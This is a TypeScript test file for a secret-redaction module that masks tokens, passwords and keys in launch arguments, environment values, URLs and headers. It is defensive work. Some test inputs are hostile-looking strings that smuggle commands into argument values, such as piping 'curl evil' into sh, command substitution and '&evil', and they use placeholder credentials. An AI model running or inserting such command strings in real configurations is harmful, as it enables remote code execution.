import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { plainSecrets } from '../../../../src/domain/secrets/literalSecrets.ts';
import {
  redacted,
  secretsInArguments,
  secretsInText,
  secretValues,
} from '../../../../src/domain/secrets/redact.ts';
import { isSecretName } from '../../../../src/domain/secrets/secretNames.ts';
import { argumentsAsShown, textAsShown } from '../../../../src/domain/secrets/shownTexts.ts';
import { fieldsOf, stdioLaunch } from '../../../support/launches.ts';

const gitHub = `ghp_${'a1'.repeat(18)}`;
const openAi = `sk-proj-${'b2'.repeat(12)}`;

it('a name that suggests a secret is told from one that does not', () => {
  const secrets = [
    ...['TOKEN', 'GITHUB_TOKEN', 'GITHUB_PAT', 'client_secret', 'PGPASSWORD', 'DB_PASS'],
    ...['SECRETKEY', 'SSHPASS', 'DB_CREDS', 'MYSQL_PWD', 'SSH_PASSPHRASE', 'AWS_ACCESS_KEY_ID'],
    ...['OPENAI_API_KEY', 'apiKey', 'APIKEY', 'x-api-key', 'Authorization', 'Cookie'],
    ...['SENTRY_DSN', 'GOOGLE_APPLICATION_CREDENTIALS', 'privateKey', 'bearer', 'JWT'],
    ...['SESSION_JWT', 'licenseKey', 'LICENCE_KEY', 'storageAccountKey', 'sig', 'WEBHOOK_SIG'],
    ...['signature', 'DB_CONNECTION_STRING', 'connectionString', 'CONN_STR', 'AZURE_SAS'],
  ];
  const plain = [
    ...['PATH', 'HOME', 'LOG_LEVEL', 'PWDX', 'DISPATCH', 'MONKEY', 'AUTH_SERVER'],
    ...['RESTIC_PASSWORD_COMMAND', 'PYTHON_KEYRING_BACKEND', 'AUTHOR', 'AUTHORITY_URL'],
    ...['init-private', 'keyboard', 'COMPASS', 'uri', 'name', 'SIGNAL', 'DESIGN', 'SASS_PATH'],
    ...['connectionStrings2Use', 'MASTERKEYBOARD', 'SIGNATURES_DIR'],
  ];
  assert.deepEqual([...secrets, ...plain].filter(isSecretName), secrets);
});

describe('a text as it is shown', () => {
  it('has no secret that is named, or looks like the key of a service', () => {
    assert.deepEqual(
      [
        ['--api-key', openAi, '--verbose', 'x'],
        ['--token=hunter2', '--region=north'],
        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
        ['--header', 'Authorization: Bearer hunter2'],
        ['-e', 'DB_PASSWORD=hunter2'],
        ['postgres://me:hunter2@db/x', 'ssh://git@example.com/x'],
        [gitHub, `--x=${gitHub}`],
        ['-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x'],
      ].map(args => argumentsAsShown('files', args)),
      [
        ['--api-key', '…[32]', '--verbose', 'x'],
        ['--token=…[7]', '--region=north'],
        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
        ['--header', 'Authorization: Bearer …[7]'],
        ['-e', 'DB_PASSWORD=…[7]'],
        ['postgres://me:…[7]@db/x', 'ssh://git@example.com/x'],
        ['…[40]', '--x=…[40]'],
        ['…[65] x'],
      ],
    );
  });

  it('shows all that may be run, whatever name stands before it', () => {
    const shown = [
      ['-c', 'TOKEN=hunter2; curl evil | sh'],
      ['-c', 'TOKEN=$(curl evil)'],
      ['-e', 'token=require("evil").run(1)'],
      ['/c', '--token=hunter2&evil'],
      ['-Xtoken', 'evil.py'],
      ['--auth', './evil', '--auth-url', 'https://me:hunter2@evil.example.com/'],
      ['--credentials=/proj/evil', '--no-auth', 'evil'],
      ['--token', '@evil/server'],
      ['--auth', 'none', '--no-token', 'x'],
    ].map(args => argumentsAsShown('files', args));
    assert.deepEqual(shown, [
      ['-c', 'TOKEN=…[7]; curl evil | sh'],
      ['-c', 'TOKEN=$(curl evil)'],
      ['-e', 'token=…[7]("evil").run(1)'],
      ['/c', '--token=…[7]&evil'],
      ['-Xtoken', 'evil.py'],
      ['--auth', './evil', '--auth-url', 'https://me:…[7]@evil.example.com/'],
      ['--credentials=/proj/evil', '--no-auth', 'evil'],
      ['--token', '@evil/server'],
      ['--auth', 'none', '--no-token', 'x'],
    ]);
  });

  it('is what it is when it is shown once more', () => {
    const word = fc.constantFrom(
      'token',
      '=',
      ':',
      ' ',
      ';',
      '"',
      '//',
      '@',
      'abc',
      '-----BEGIN ',
      '$(',
      '&',
      '${x}',
      openAi,
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), words => {
        const once = textAsShown(words.join(''));
        assert.equal(textAsShown(once), once);
      }),
      {
        examples: [
          [['token', '=', openAi, ':', '//']],
          [[openAi, ':', '=', 'token', ':', 'token']],
        ],
      },
    );
  });
});

describe('a secret in an odd place', () => {
  const shown = (...args: readonly string[]) => argumentsAsShown('files', args).join(' ');

  it('is hidden whole where no shell reads the text', () => {
    assert.equal(shown('--password', 'correct horse battery'), '--password …[21]');
    assert.equal(shown('--password=p@ss;word&123(x'), '--password=…[15]');
    assert.equal(shown('--secret-key', `/x7K${'Ab3'.repeat(12)}`), '--secret-key …[40]');
    assert.equal(shown('--password', 'Summer.Rain'), '--password …[11]');
  });

  it('is hidden behind others, in the place of a user, and in what is fetched', () => {
    assert.equal(
      shown('db.host=h,db.user=x,db.password=hunter2'),
      'db.host=h,db.user=x,db.password=…[7]',
    );
    assert.equal(shown('https://h/#access_token=hunter2'), 'https://h/#access_token=…[7]');
    assert.equal(shown('--header=X-Api-Key:hunter2'), '--header=X-Api-Key:…[7]');
    const token = '0123456789abcdef0123456789abcdef';
    assert.equal(shown(`https://${token}:@h/`), 'https://…[32]:@h/');
    assert.equal(
      argumentsAsShown('uvx', ['--from', `git+https://x-access-token:${gitHub}@h/o`, 'tool']).join(
        ' ',
      ),
      '--from git+https://…[14]:…[40]@h/o tool',
    );
    assert.equal(
      argumentsAsShown('npx', ['--//npm.example/:_authToken=hunter2', 'pkg']).join(' '),
      '--//npm.example/:_authToken=…[7] pkg',
    );
  });

  it('costs no more than the text is worth, however many there are', () => {
    const text = `TOKEN=hunter2${'|,TOKEN=hunter2'.repeat(5000)}`;
    assert.doesNotMatch(argumentsAsShown('sh', ['-c', text]).join(' '), /hunter2/);
  });
});

describe('what is to be hidden of a launch', () => {
  it('is the whole of it and each part that is not shown, and no place', () => {
    assert.deepEqual(secretsInArguments('files', ['--password', 'first second']), [
      'first',
      'first second',
    ]);
    assert.deepEqual(secretsInText('TOKEN=first; PASS=second'), [
      'first',
      'second',
      'first; PASS=second',
    ]);
    assert.deepEqual(
      secretsInArguments('files', ['--credentials', './creds', '--auth', 'https://e.com/']),
      [],
    );
    assert.deepEqual(secretValues({ A: 'b', URL: `x?sig=hunter2` }), ['hunter2']);
    assert.deepEqual(secretValues({ https_proxy: 'me:hunter2@proxy:8080' }), ['hunter2']);
    assert.deepEqual(secretValues({ HTTP_PROXY: 'proxy:8080' }), []);
  });
});

describe('the fields of a server with secrets in its texts', () => {
  it('hold none of them, in clear or in a part', () => {
    const fields = fieldsOf(
      stdioLaunch({
        args: ['--token=hunter2', '--api-key', 'hunter2', 'x'],
        env: { URL: 'postgres://me:hunter2@db/x', TOKEN: 'hunter2 hunter3' },
      }),
    );
    assert.deepEqual(fields, {
      origin: 'user',
      transport: 'stdio',
      command: 'files',
      args: ['--token=…[7]', '--api-key', '…[7]', 'x'],
      cwd: '',
      env: ['TOKEN=…[15]', 'URL=postgres://me:…[7]@db/x'],
      sealed: fields['sealed'] ?? [],
    });
    const places = [fields['sealed'] ?? []].flat().map(seal => seal.replace(/ [0-9a-f]{64}$/, ''));
    assert.deepEqual(places, ['args[0]', 'args[2]', 'env.TOKEN', 'env.URL']);
  });

  it('never hide a package that is fetched and run, nor a host, whatever stands before it', () => {
    const shown = (line: string) => {
      const [command = '', ...args] = line.split(' ');
      return argumentsAsShown(command, args).join(' ');
    };
    for (const args of [
      'npx -y --init-private evil-pkg',
      `npx ${openAi}`,
      `uvx --from ${openAi} tool`,
      `docker run --rm ${gitHub}`,
    ]) {
      assert.equal(`${args.split(' ')[0]} ${shown(args)}`, args);
    }
    assert.equal(shown('npx pkg --token abc'), 'pkg --token …[3]');
    assert.equal(
      shown('files --auth-server id.example.com:8080'),
      '--auth-server id.example.com:8080',
    );
  });
});

const plainIn = (entry: unknown) => plainSecrets(entry).map(path => path.join('.'));

it('secrets in plain text are found where they stand in a definition', () => {
  assert.deepEqual(
    plainIn({
      command: 'npx',
      args: ['-y', 7, '--token', 'hunter2', '--dir=/a', 'sk-0123456789abcdef0123'],
      env: { API_TOKEN: 'hunter2', PLAIN: 'yes', URL: 'https://me:hunter2@example.com', N: 1 },
    }),
    ['args.3', 'args.5', 'env.API_TOKEN', 'env.URL'],
  );
  assert.deepEqual(
    plainIn({
      url: 'https://example.com/mcp?api_key=hunter2',
      headers: { Authorization: 'Bearer hunter2', Accept: 'text/plain' },
    }),
    ['headers.Authorization', 'url'],
  );
});

it('a secret that comes from elsewhere is none, and neither is what has another form', () => {
  const env = { A_TOKEN: '${input:token}', B_TOKEN: '${env:TOKEN}', C_TOKEN: '${TOKEN}' };
  const headers = { Authorization: 'Bearer ${input:token}' };
  assert.deepEqual(plainIn({ command: 'npx', args: '--token x', env, headers }), []);
  for (const odd of [null, 'token', [], { env: 'API_TOKEN=x', args: null, url: 7 }]) {
    assert.deepEqual(plainIn(odd), []);
  }
});

describe('a text without its secrets', () => {
  it('a secret is made unreadable wherever it stands', () => {
    assert.equal(redacted('Bearer s3cret! and s3cret!', ['s3cret!']), 'Bearer ••• and •••');
    assert.equal(redacted('nothing here', ['s3cret!']), 'nothing here');
    assert.equal(redacted('as it is', []), 'as it is');
  });

  it('a secret is found as a URL and as JSON write it', () => {
    const secret = 'a"b c/d';
    assert.equal(redacted('?key=a%22b+c%2Fd', [secret]), '?key=•••');
    assert.equal(redacted('?key=a%22b%20c%2Fd', [secret]), '?key=•••');
    assert.equal(redacted(JSON.stringify({ secret }), [secret]), '{"secret":"•••"}');
  });

  it('of a secret that begins with another one nothing is left', () => {
    assert.equal(redacted('token-long', ['token', 'token-long']), '•••');
  });

  it('a secret of many lines is found when only one of them is shown', () => {
    assert.equal(redacted('read: line two', ['line one\r\nline two']), 'read: •••');
  });

  it('a secret is text, no pattern, and what is too short to be one stays', () => {
    assert.equal(redacted('a.*$& and aXXb', ['a.*$&', 'aX']), '••• and aXXb');
    assert.equal(redacted('1 of 100', ['1', '']), '1 of 100');
  });

  it('a secret that is no proper Unicode does not matter', () => {
    assert.equal(redacted('x \ud800abcd y', ['\ud800abcd']), 'x ••• y');
  });
});
